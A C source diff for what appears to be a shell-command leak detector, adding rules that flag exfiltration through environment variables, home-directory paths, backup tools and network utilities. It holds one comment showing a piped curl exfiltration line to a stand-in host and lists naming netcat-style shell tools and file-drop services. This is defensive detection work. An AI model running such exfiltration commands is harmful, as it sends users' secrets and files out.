@@ -14,6 +14,12 @@ static void take(struct sh_leak *l, unsigned taint, const char *from)
 {
 	l->taint |= taint;
 	l->from = l->from ? l->from : from;
+	if (!(taint & SH_ENV))
+		return;
+	if (from && from[0] == '$')
+		l->variable = from;
+	else
+		l->whole = true;
 }
 
 static void take_word(struct sh *s, struct sh_leak *l, const struct sh_word *w, bool files)
@@ -131,7 +137,8 @@ static bool lies_beyond(struct sh *s, const char *path)
 	bool own = strstr(path, "/Documents") || strstr(path, "/Desktop") ||
 		   strstr(path, "/Pictures");
 
-	return sh_of_system(s, path) || (own && sh_place(s, path) == SH_IN_HOME);
+	return sh_of_system(s, path) || sh_place(s, path) == SH_HOME_DIR ||
+	       (own && sh_place(s, path) == SH_IN_HOME);
 }
 
 /* What the place and the name of a file say about what is in it. */
@@ -221,6 +228,10 @@ static void curl_leak(struct sh *s, const struct sh_command *c, struct sh_leak *
 			take_word(s, l, w, false);
 			l->lookup = l->lookup || announces(w);
 		}
+		/* … | xargs -I{} curl https://a.example/?d={} */
+		if ((c->how & SH_ARGSIN) && !body && sh_is_url(w->text) && strstr(w->text, "{}") &&
+			(c->in.taint & (SH_SEALED | SH_CODED | SH_SECRET | SH_ENV)))
+			take_input(l, c);
 	}
 	for (size_t i = 1; !l->host && i < c->args.n; i++) {
 		if (c->args.v[i].text[0] != '-' && !sh_is(c->args.v[i - 1].text, upload_options) &&
@@ -355,6 +366,9 @@ static bool is_kept(struct sh *s, const char *from, const char *to)
 static void copy_leak(struct sh *s, const struct sh_command *c, struct sh_leak *l)
 {
 	struct route r = {.to = c->args.n > 1 ? c->args.v[c->args.n - 1].text : ""};
+	/* where to stands before what */
+	bool first = sh_is(c->args.v[0].text, "|restic|borg|duplicity|kopia|") &&
+		     sh_has(c, "|backup|create|snapshot|full|incr|~|/|/home|/etc|");
 
 	l->transfer = true;
 	take_copied(s, c, l, &r);
@@ -373,9 +387,9 @@ static void copy_leak(struct sh *s, const struct sh_command *c, struct sh_leak *
 	if (!l->host)
 		l->taint = 0;
 	/* from there to here */
-	if (l->host && r.away < r.here)
+	if (l->host && r.away < r.here && !first)
 		l->taint &= ~(SH_SECRET | SH_HARD);
-	l->copied = l->host && r.here && r.here < r.away;
+	l->copied = l->host && r.here && (r.here < r.away || first);
 	l->beyond = l->beyond && l->copied;
 }
 
@@ -406,7 +420,7 @@ static const struct {
 	{"|onionshare|onionshare-cli|sharefile|transfer|transfersh|ffsend|plik|wetransfer|", NULL,
 		DROP},
 	{"|telegram-send|slackcat|slack-cli|discord.sh|apprise|ntfy|pushbullet|signal-cli|", NULL,
-		OWN},
+		MESSAGE},
 };
 
 /* A whole home as the pages of a site. */
@@ -585,9 +599,10 @@ static void gather(struct sh *s, const struct sh_command *c, struct sh_leak *l)
 		    "lynx|w3m|links|elinks|"))
 		curl_leak(s, c, l);
 	else if (sh_is(p, "|nc|ncat|netcat|socat|telnet|openssl|ssh|ftp|tftp|lftp|mail|mailx|mutt|"
-			  "sendmail|swaks|msmtp|smbclient|sftp|s-nail|restic|websocat|wscat|finger|"
+			  "sendmail|swaks|msmtp|smbclient|sftp|s-nail|websocat|wscat|finger|"
 			  "whois|gs-netcat|croc|wormhole|magic-wormhole|ffsend|lp|rlogin|hping3|ab|"
-			  "ncftpput|ftpput|tailscale|gh|"))
+			  "ncftpput|ftpput|tailscale|gh|kcat|kafkacat|") ||
+		 (!strcmp(p, "logger") && sh_has(c, "|-n|--server|")))
 		pipe_leak(s, c, l);
 	else if (sh_is(p, "|dig|nslookup|host|ping|drill|resolvectl|getent|ping6|traceroute|"))
 		name_leak(s, c, l);
@@ -595,7 +610,8 @@ static void gather(struct sh *s, const struct sh_command *c, struct sh_leak *l)
 		return;
 	else if (
 		sh_is(p,
-			"|scp|rsync|rclone|aws|gsutil|gcloud|s3cmd|mc|az|azcopy|b2|kubectl|docker|"))
+			"|scp|rsync|rclone|aws|gsutil|gcloud|s3cmd|mc|az|azcopy|b2|kubectl|docker|"
+			"restic|borg|duplicity|kopia|"))
 		copy_leak(s, c, l);
 	else
 		other_leak(s, c, l);
